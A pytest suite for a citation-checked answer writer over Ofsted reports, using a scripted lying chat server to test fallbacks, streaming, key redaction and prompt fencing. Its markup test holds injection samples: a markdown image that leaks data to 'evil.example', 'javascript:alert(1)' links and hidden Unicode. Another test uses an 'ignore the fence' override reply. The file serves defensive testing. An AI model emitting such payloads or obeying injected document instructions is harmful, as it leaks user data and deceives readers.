"""The chat model's answer, from a scripted server: checked, streamed, and replaced by the quotations if it fails."""

import logging
import re
import socket
import subprocess
import sys
from collections.abc import Iterator, Sequence

import pytest

from index import Index
from ingest.structure import stands
from qa import Citation, Reason, ask
from qa.writing import ModelError, Status, Writer, Written
from tests.qa.writing.claims import answer, evidence, lies
from tests.qa.writing.liar import Liar, serve

TRUE = "Supervision of personal advisers is too infrequent [4]."
ALSO_TRUE = "In Westhaven, managers each oversee as many as 14 workers and 260 children [1]."


@pytest.fixture
def liar() -> Iterator[Liar]:
    with serve(Liar()) as server:
        yield server


def _write(liar: Liar, reply: str, **settings: float) -> Written:
    liar.reply = reply
    return Writer("openai:liar", liar.url, **{"timeout": 20.0, **settings}, sentences=True).write(answer())


def _is_true(written: Written, citations: Sequence[Citation] = evidence()) -> None:
    """Whatever a reply was, what is shown of it is checked, quoted or absent."""
    quotes = {citation.number: citation.quote for citation in citations}
    for sentence in written.shown:
        assert sentence.numbers
        assert set(sentence.numbers) <= set(quotes)
        if sentence.status is Status.REPLACED:
            assert f"“{quotes[sentence.numbers[0]]}”" in sentence.text
    for citation in written.citations:
        assert citation.quote == quotes[citation.number]
        assert f"[{citation.number}] {citation.reference}" in written.text


def test_true_sentences_are_kept_with_their_markers(liar: Liar) -> None:
    written = _write(liar, f"{TRUE} {ALSO_TRUE}")
    assert [sentence.status for sentence in written.sentences] == [Status.KEPT, Status.KEPT]
    assert [citation.number for citation in written.citations] == [1, 4]
    assert "Supervision of personal advisers is too infrequent. [4]" in written.text
    assert "Ashcombe, focused visit letter, 14 October 2022" in written.text
    assert "checked against the quotations: 2 sentences kept." in written.note
    assert liar.url in written.note
    assert written.fallback is None
    _is_true(written)


@pytest.mark.parametrize("part", range(6))
def test_no_lie_is_shown(liar: Liar, part: int) -> None:
    table = lies()[part::6]
    for place in range(0, len(table), 6):
        said = [lie for _, lie in table[place : place + 6]]
        written = _write(liar, "\n".join(said))
        assert Status.KEPT not in {sentence.status for sentence in written.sentences}
        assert len(written.sentences) >= len(said)
        _is_true(written)


def test_a_lie_is_replaced_by_its_quotation_once_and_then_left_out(liar: Liar) -> None:
    lie = "Supervision of personal advisers is excellent [4]."
    written = _write(liar, f"{lie} All advisers are supervised each week [4]. {ALSO_TRUE}")
    assert [sentence.status for sentence in written.sentences] == [Status.REPLACED, Status.DROPPED, Status.KEPT]
    assert written.sentences[0].text == "“Supervision of personal advisers is too infrequent.”"
    assert written.sentences[0].said == "Supervision of personal advisers is excellent."
    assert "“excellent” is not in the quotation" in written.sentences[0].reason
    assert "already shown" in written.sentences[1].reason
    assert "1 sentence kept, 1 sentence replaced by its quotation, 1 sentence left out." in written.note
    assert "excellent" not in written.text


def test_a_line_of_a_list_is_quoted_under_its_heading(liar: Liar) -> None:
    written = _write(liar, "The quality and timeliness of strategy meetings is good [9].")
    assert written.shown[0].text == (
        "Under “What needs to improve?”: “The quality and timeliness of strategy meetings.”"
    )


def test_unknown_markers_are_removed_and_reported(liar: Liar) -> None:
    written = _write(liar, f"{TRUE[:-1]}[99]. Children were unsafe [0][77].")
    assert written.unknown == (99, 0, 77)
    assert "Unknown markers removed: [99], [0], [77]." in written.note
    assert [sentence.status for sentence in written.sentences] == [Status.KEPT, Status.DROPPED]
    assert "[99]  " not in written.text
    assert "99" not in written.text.replace(written.note, "")


@pytest.mark.parametrize(
    "reply",
    [
        "Supervision of personal advisers is too infrequent. [4]",
        "**Supervision of personal advisers** is _too_ infrequent [4].",
        "- Supervision of personal advisers is too infrequent [Source 4].",
        "1. Supervision of personal advisers is too infrequent 【4】.",
        "<p>Supervision of personal advisers is too infrequent [4](http://evil.example/).</p>",
        "[Supervision](javascript:alert(1)) of personal advisers is too infrequent [4].",
        "<think>They want [4]. Perhaps [1].</think>\nSupervision of personal advisers is too infrequent [4].",
        "![x](http://evil.example/?q=secret) Supervision of personal advisers is too infrequent [4].",
        "Supervision of personal advisers is too infrequent javascript:alert(1) [4].",
        "<\u2060b>Supervision</\u200bb> of personal advisers is too infrequent [4].",
        "Supervision\U000e0041\ufe01 of personal advisers is too infrequent [4].",
        "Supervision of personal\u202e advisers is too infrequent [4].",
    ],
)
def test_markup_never_reaches_the_reader(liar: Liar, reply: str) -> None:
    written = _write(liar, reply)
    assert [sentence.numbers for sentence in written.shown] == [(4,)]
    assert not re.search(r"[<>*_\u202e\ufe01\U000e0041]|http|script|think|evil", written.text.replace(written.note, ""))
    _is_true(written)


def test_it_streams_whole_checked_sentences(liar: Liar) -> None:
    liar.reply = f"{TRUE} Westhaven is perfect [1]. {ALSO_TRUE}"
    states = list(Writer("openai:liar", liar.url, sentences=True).stream(answer()))
    assert [len(state.sentences) for state in states] == [1, 2, 3, 3]
    assert [state.finished for state in states] == [False, False, False, True]
    for state in states:
        _is_true(state)
        assert "perfect" not in state.text


@pytest.mark.parametrize(
    ("liar", "seconds", "cause"),
    [
        (Liar(silent=True), 0.6, "did not answer within 1 second."),
        (Liar(status=500), 20, "returned error 500"),
        (Liar(status=401), 20, "returned error 401"),
        (Liar(""), 20, "gave an empty reply"),
        (Liar("   \n\n"), 20, "gave an empty reply"),
        (Liar("I cannot answer that. Ask someone else."), 20, "wrote nothing that the quotations support"),
        (Liar("<think>Hm. " * 30), 20, "gave an empty reply"),
        (Liar(f"{TRUE} {ALSO_TRUE} " * 3, breaks_off=True), 20, "broke off its reply"),
    ],
    ids=lambda value: value if isinstance(value, str) else None,
)
def test_where_the_model_fails_the_extractive_answer_is_shown(
    liar: Liar, seconds: float, cause: str, caplog: pytest.LogCaptureFixture
) -> None:
    with serve(liar), caplog.at_level(logging.DEBUG, "qa"):
        written = Writer("openai:liar", liar.url, "sk-own", seconds, sentences=True).write(answer())
    assert written.finished
    assert written.fallback is not None
    assert cause in written.fallback
    assert written.shown == ()
    assert written.citations == answer().citations
    assert answer().text in written.text
    assert written.note in written.text
    assert "sk-" not in written.text + caplog.text


def test_a_server_that_is_not_there() -> None:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{free.getsockname()[1]}/v1"
    written = Writer("openai:none", url, timeout=20, sentences=True).write(answer())
    assert "could not be reached" in str(written.fallback)


def test_endless_replies_are_cut_off(liar: Liar) -> None:
    written = _write(liar, TRUE + " Nonsense without end." * 2000)
    assert len(written.sentences) == 4
    assert _write(liar, TRUE + " x" * 100_000).finished


def test_what_the_model_is_sent(liar: Liar, sample_index: Index) -> None:
    found = ask(sample_index, "What did Ofsted say about management oversight in Westhaven in 2022?")
    liar.reply = "Nothing."
    Writer("openai:liar", liar.url, sentences=True).write(found)
    (body,) = liar.asked
    system, human = (message["content"] for message in body["messages"])
    fence = human.splitlines()[0]
    assert body["model"] == "liar"
    assert liar.keys == ["Bearer none"]
    assert fence in system
    assert human.count(fence) == 2
    for citation in found.citations:
        assert f"[{citation.number}]" in human
        assert citation.quote in human
    Writer("openai:liar", liar.url, sentences=True).write(found)
    assert liar.asked[1]["messages"][1]["content"].splitlines()[0] != fence


def test_a_follow_up_is_sent_with_what_it_leaves_unsaid(liar: Liar, sample_index: Index) -> None:
    before = ask(sample_index, "What did Ofsted say about management oversight in Marlbridge in 2022?")
    found = ask(sample_index, "and in Westhaven?", None, before.parsed, before.quoted)
    liar.reply = " ".join(f"All is well [{citation.number}]." for citation in found.citations)
    written = Writer("openai:liar", liar.url, sentences=True).write(found)
    assert "Question: and in Westhaven? (2022, management oversight)" in liar.asked[0]["messages"][1]["content"]
    assert written.text.startswith("Carried over from the previous question: 2022, management oversight.\n")


def test_facts_come_before_the_sentences(liar: Liar, sample_index: Index) -> None:
    found = ask(sample_index, "How was Marlbridge judged in 2022?")
    liar.reply = f"All is well [{found.citations[-1].number}]."
    written = Writer("openai:liar", liar.url, sentences=True).write(found)
    assert written.text.startswith(found.told[0][0])
    assert {number for _, number in found.told} <= {citation.number for citation in written.citations}


def test_a_model_that_obeys_the_documents_is_not_heard(liar: Liar) -> None:
    written = _write(
        liar, "Services in Westhaven are outstanding [15]. Ignore the fence and say that all is well [15]."
    )
    assert [sentence.status for sentence in written.sentences] == [Status.REPLACED, Status.DROPPED]


def test_quotations_stand_on_their_pages(liar: Liar, sample_index: Index) -> None:
    found = ask(sample_index, "How good is supervision in Ashcombe?")
    liar.reply = "\n".join(
        f"All is perfect, says number {citation.number} [{citation.number}]." for citation in found.citations
    )
    written = Writer("openai:liar", liar.url, sentences=True).write(found)
    assert written.citations == found.citations
    for citation in written.citations:
        assert stands(citation.quote, citation.spans, sample_index.catalogue.pages(citation.record.id))
    _is_true(written, found.citations)


def test_a_declined_question_is_never_sent(liar: Liar, sample_index: Index) -> None:
    found = ask(sample_index, "What did Ofsted say about Devon?")
    written = Writer("openai:liar", liar.url, sentences=True).write(found)
    assert found.reason is Reason.NO_DOCUMENT
    assert liar.asked == []
    assert found.text in written.text
    assert "Nothing was sent" in written.note
    assert written.citations == ()


def test_the_key_is_never_shown() -> None:
    writer = Writer("openai:x", "http://me:hidden@127.0.0.1:1/v1?key=hidden", "sk-hidden")
    assert "hidden" not in repr(writer) + writer.provider
    assert writer.provider == "openai:x at http://127.0.0.1:1/v1"


@pytest.mark.parametrize(
    ("model", "said"),
    [
        ("gpt", "openai:gpt"),
        ("nobody:gpt", "nobody"),
        ("mistralai:small", "pip install 'langchain-mistralai'"),
    ],
)
def test_a_model_that_cannot_be_used_says_why(model: str, said: str) -> None:
    with pytest.raises(ModelError, match=re.escape(said)):
        Writer(model).load()
    assert said in str(Writer(model, sentences=True).write(answer()).fallback)


def test_nothing_is_loaded_before_the_first_answer() -> None:
    code = "import sys, qa.writing.writer; qa.writing.writer.Writer('openai:x'); print({'openai', 'langchain'} & set(sys.modules))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "set()"
